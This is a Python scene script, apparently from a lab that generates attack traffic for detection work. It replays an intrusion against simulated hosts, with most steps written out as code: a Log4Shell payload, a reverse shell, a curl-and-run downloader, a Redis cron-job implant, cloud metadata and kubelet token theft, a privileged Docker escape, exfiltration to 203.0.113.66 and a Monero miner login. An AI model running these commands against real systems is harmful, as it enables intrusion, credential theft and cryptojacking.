"""The story that the README replays: one container is taken, and from there the others."""

import time

from .common import begin, docker_engine
from .data_stores import redis
from .kubernetes import kubelet
from .mining import BLOB, lines
from .scans import nginx
from .scenes import scene
from .secrets import KEY, SERVICE_ACCOUNT
from .shells import listener, shell_home
from .web import curl, reply, site
from .cloud_metadata import services


@scene("lateral-movement", nmap="nmap", redis_server="redis-server", redis_cli="redis-tools", dockerd="docker.io", docker="docker.io", nginx="nginx",
       dnsmasq="dnsmasq", dig="dnsutils", unshare="util-linux", __bin__busybox="busybox-static")
def story(lab):
    """Log4Shell into a web container, reverse shell, sweep, Redis, metadata, Docker API, kubelet, secrets out, mining"""
    outside, web, shop, db, node = lab.host("outside", 66).also("203.0.113.66"), lab.host("web", 20), lab.host("shop", 21), lab.host("db", 40), lab.host("node", 10)
    dns = lab.host("dns", 53)
    services(lab), redis(lab, db), docker_engine(lab, node), kubelet(node, 10255), kubelet(node, 10250), nginx(lab, shop)
    dns.start("dnsmasq", "-k", "-h", "-R", "-u", "root", "--bind-interfaces", "--pid-file=" + lab.path("dnsmasq.pid"), "--address=/#/203.0.113.66", port=53, udp=True)
    site(web, 8080, [(r"", reply(200, "<html><body>shop</body></html>", server="Apache-Coyote/1.1"))])
    listener(outside, 4444, b"id\n", b"hostname\n", b"exit\n")
    site(outside, 80, [(r"i\.sh", reply(200, "#!/bin/sh\ncd /tmp\ncurl -fsSL http://203.0.113.66/x -o /tmp/.x\nchmod +x /tmp/.x\n/tmp/.x &\n", "text/x-sh", "SimpleHTTP/0.6 Python/3.11.2")), (r"", reply(200, "ok", "text/plain"))])
    outside.listen(3333, lines('{"id":1,"jsonrpc":"2.0","error":null,"result":{"id":"w","job":{"blob":"%s","job_id":"q1","target":"b88d0600","algo":"rx/0"},"status":"OK"}}\n' % BLOB))
    begin(lab)
    # ordinary life around it
    for path in ("/", "/cart", "/item?id=7"):
        curl(shop, f"http://{web.ip}:8080{path}", agent="Mozilla/5.0 (X11; Linux x86_64)")
    shop.run("redis-cli", "-h", db.ip, "SET", "session:1", "anna")
    shop.run("redis-cli", "-h", db.ip, "GET", "session:1")
    node.run("docker", "-H", f"tcp://{node.ip}:2375", "version")
    # in
    curl(outside, f"http://{web.ip}:8080/login", agent="${jndi:ldap://203.0.113.66:1389/a}")
    shell_home(web, "203.0.113.66", 4444)
    curl(web, "http://203.0.113.66/i.sh")
    # around
    web.run("nmap", "-n", "-Pn", "--disable-arp-ping", "-T4", "--max-retries", "0", "-sS", "-p", "22,80,443,2375,2379,6379,8080,9200,10250,10255,11211,27017", db.ip, node.ip, shop.ip, dns.ip)
    # sideways: the data store
    for argv in (["INFO", "server"], ["CONFIG", "SET", "dir", lab.tmp], ["CONFIG", "SET", "dbfilename", "root"]):
        web.run("redis-cli", "-h", db.ip, *argv)
    web.run("redis-cli", "-h", db.ip, "-x", "SET", "x", stdin="\n\n*/5 * * * * root curl -fsSL http://203.0.113.66/i.sh | sh\n\n")
    # up: the cloud, the host, the cluster
    curl(web, "http://169.254.169.254/latest/api/token", method="PUT", headers=["X-aws-ec2-metadata-token-ttl-seconds: 21600"])
    curl(web, "http://169.254.169.254/latest/meta-data/iam/security-credentials/node-role")
    curl(web, f"http://{node.ip}:2375/containers/json")
    engine = f"tcp://{node.ip}:2375"
    web.run("docker", "-H", engine, "create", "--privileged", "--pid=host", "-v", "/:/mnt", "--name", "helper", "alpine:3.18", "chroot", "/mnt", "sh", "-c", "true", timeout=40)
    web.run("docker", "-H", engine, "rm", "-f", "helper", timeout=40)
    curl(web, f"http://{node.ip}:10255/pods")
    curl(web, f"http://{node.ip}:10250/run/shop/payments-6d4cf56db6-x2x7p/app", "cmd=cat /var/run/secrets/kubernetes.io/serviceaccount/token")
    # out
    curl(web, "http://203.0.113.66/in", KEY, headers=["Content-Type: text/plain"])
    curl(web, "http://203.0.113.66/in", "token=" + SERVICE_ACCOUNT, headers=["Content-Type: text/plain"])
    web.run("dig", "+tries=1", "+time=1", f"@{dns.ip}", "gulf.moneroocean.stream")
    web.talk("203.0.113.66", 3333, b'{"id":1,"jsonrpc":"2.0","method":"login","params":{"login":"4inert","pass":"x","agent":"XMRig/6.21.0 (Linux x86_64) libuv/1.44.2 gcc/12.2.0","algo":["rx/0"]}}\n')
    time.sleep(0.2)
